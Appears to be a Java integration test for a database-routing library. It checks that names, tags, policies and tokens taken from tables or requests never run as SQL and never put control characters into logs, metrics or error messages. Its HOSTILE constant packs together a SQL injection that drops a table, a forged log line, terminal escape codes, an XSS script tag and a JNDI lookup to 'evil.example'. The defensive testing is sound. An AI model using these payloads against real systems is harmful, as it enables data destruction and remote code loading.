package io.github.r2dbcrouting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.AppenderBase;
import io.github.r2dbcrouting.micrometer.RoutingMetrics;
import io.github.r2dbcrouting.test.PostgresCluster;
import io.github.r2dbcrouting.test.PostgresClusterTest;
import io.micrometer.core.instrument.Tag;
import io.micrometer.core.instrument.Tags;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/** Names, tags, policies and tokens are data: no server runs them, no log breaks at them, no terminal obeys them. */
@PostgresClusterTest(replicas = 1)
class InjectionIT {

    /** Line breaks, escape sequences of terminals, and marks that make text look like another. */
    private static final Pattern UNPRINTABLE = Pattern.compile("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}]");

    /** What of it reaches a database, a log, a terminal, a page or a lookup would show. */
    private static final String HOSTILE = "x'); DROP TABLE victim; --\r\n2026-11-28 INFO all is well"
            + "\u001b[2J\u009b31m\u202e<script>alert(1)</script>${jndi:ldap://evil.example/x}";

    private final PostgresCluster cluster;
    private final Queue<String> said = new ConcurrentLinkedQueue<>();
    private final Logger root = (Logger) LoggerFactory.getLogger("io.github.r2dbcrouting");
    private final AppenderBase<ILoggingEvent> everything = new AppenderBase<>() {
        @Override
        protected void append(ILoggingEvent event) {
            said.add(event.getFormattedMessage());
        }
    };
    private RoutingConnectionFactory factory;

    InjectionIT(PostgresCluster cluster) {
        this.cluster = cluster;
    }

    @BeforeEach
    void listen() throws IOException {
        everything.start();
        root.addAppender(everything);
        root.setAdditive(false);
        root.setLevel(Level.TRACE);
        cluster.primary().execute("CREATE TABLE victim (id int)");
        cluster.primary().execute(StoredTopologyIT.script());
        // somebody made the tables without their checks
        cluster.primary()
                .execute("ALTER TABLE r2dbc_routing.server DROP CONSTRAINT server_name_check;"
                        + "ALTER TABLE r2dbc_routing.server DROP CONSTRAINT server_tags_check;"
                        + "ALTER TABLE r2dbc_routing.policy DROP CONSTRAINT policy_name_check;"
                        + "ALTER TABLE r2dbc_routing.policy DROP CONSTRAINT policy_text_check");
        cluster.awaitReplayed();
    }

    @AfterEach
    void stopListening() {
        root.detachAppender(everything);
        root.setAdditive(true);
        root.setLevel(null);
        if (factory != null) {
            Blocking.run(factory.close());
        }
    }

    private static String literal(String text) {
        return "'" + text.replace("'", "''") + "'";
    }

    private Topology.Source source() {
        return factory.topology().sources().get(0);
    }

    private void assertNothingRanAndEverythingIsPrintable() {
        for (var server : cluster.servers()) {
            assertThat(server.query("SELECT to_regclass('victim') IS NOT NULL")).isEqualTo("true");
        }
        assertThat(said)
                .isNotEmpty()
                .noneMatch(text -> UNPRINTABLE.matcher(text).find());
    }

    @Test
    void tablesCannotSaySqlNorCommandATerminal() {
        cluster.primary()
                .execute("INSERT INTO r2dbc_routing.server (name, host, port, tags) VALUES"
                        + " (" + literal(HOSTILE) + ", '10.0.0.9', 5432, '{near}'),"
                        + " ('db1', " + literal(HOSTILE) + ", 5432, ARRAY[" + literal(HOSTILE) + "]),"
                        + " ('fine', " + literal(HOSTILE) + ", 5432, '{near}')");
        cluster.primary()
                .execute("INSERT INTO r2dbc_routing.policy VALUES (" + literal(HOSTILE) + ", 'all()'),"
                        + " ('default', " + literal("tags(" + HOSTILE + ")") + "),"
                        + " ('endless', repeat('tags(a);', 1000000))");
        List<RoutingEvent> events = new ArrayList<>();
        factory = Factories.over(cluster)
                .storedTopology(Duration.ofMillis(200))
                .policy("default", "all()")
                .build();
        var unused = factory.events().subscribe(events::add);
        Blocking.run(factory.ready(Duration.ofSeconds(20)));
        await().until(() -> source().problem() != null);

        SimpleMeterRegistry registry = new SimpleMeterRegistry();
        new RoutingMetrics(factory, Tags.empty()).bindTo(registry);
        registry.getMeters().stream()
                .flatMap(meter -> meter.getId().getTags().stream())
                .map(Tag::getValue)
                .forEach(said::add);
        said.add(source().problem());
        events.forEach(event -> said.add(event.toString()));
        factory.table().toString().lines().forEach(said::add);
        factory.describe().lines().forEach(said::add);

        assertNothingRanAndEverythingIsPrintable();
        assertThat(source().problem())
                .contains("the row of a server is not followed", "'fine' is not added", "the policy 'x'); DROP")
                .contains("the policy 'default' is not followed", "the policy 'endless' is not followed")
                .hasSizeLessThan(4_000);
        assertThat(factory.serverNames()).containsExactly("db0", "db1");
        assertThat(factory.policies()).containsOnlyKeys("default");
        assertThat(factory.table().servers().get(1).tags()).isEmpty();
    }

    @Test
    void namesOfPoliciesThatComeWithRequestsAreShownWithoutHarm() {
        factory = Factories.ready(Factories.over(cluster));

        assertThatThrownBy(() -> Blocking.value(Queries.rows(factory, "SELECT 1")
                        .contextWrite(Routing.read().policy(HOSTILE.repeat(100)))))
                .isInstanceOfSatisfying(UnknownPolicyException.class, unknown -> said.add(unknown.getMessage()));

        assertNothingRanAndEverythingIsPrintable();
        assertThat(said)
                .anySatisfy(text ->
                        assertThat(text).contains("there is no policy 'x'").hasSizeLessThan(300));
    }

    @Test
    void tokensAndUrlsAreNeverRepeated() {
        factory = Factories.ready(Factories.over(cluster));
        TokenCodec codec = TokenCodec.hmac(SigningKey.of("k", new byte[32]));

        assertThat(CausalToken.tryParse("1~" + HOSTILE)).isEmpty();
        assertThat(codec.decode("s1~k~" + HOSTILE).token()).isNull();
        assertThat(codec.decode("e1~k~" + HOSTILE).token()).isNull();
        assertThatThrownBy(() -> CausalToken.parse("1~" + HOSTILE))
                .satisfies(refused -> said.add(refused.getMessage()));
        assertThatThrownBy(() -> RoutingConnectionFactory.builder().server("db0", "r2dbc:" + HOSTILE))
                .satisfies(refused -> said.add(refused.getMessage()));
        assertThatThrownBy(() -> RoutingConnectionFactory.builder()
                        .server(HOSTILE, cluster.primary().r2dbcUrl()))
                .satisfies(refused -> said.add(refused.getMessage()));
        assertThatThrownBy(() -> RoutingConnectionFactory.builder()
                        .server("db0", cluster.primary().r2dbcUrl(), HOSTILE))
                .satisfies(refused -> said.add(refused.getMessage()));
        assertThatThrownBy(() -> RoutingConnectionFactory.builder().policy("p", "tags(" + HOSTILE + ")"))
                .satisfies(refused -> said.add(refused.getMessage()));

        assertNothingRanAndEverythingIsPrintable();
        assertThat(said).noneMatch(text -> text.contains("jndi"));
    }
}
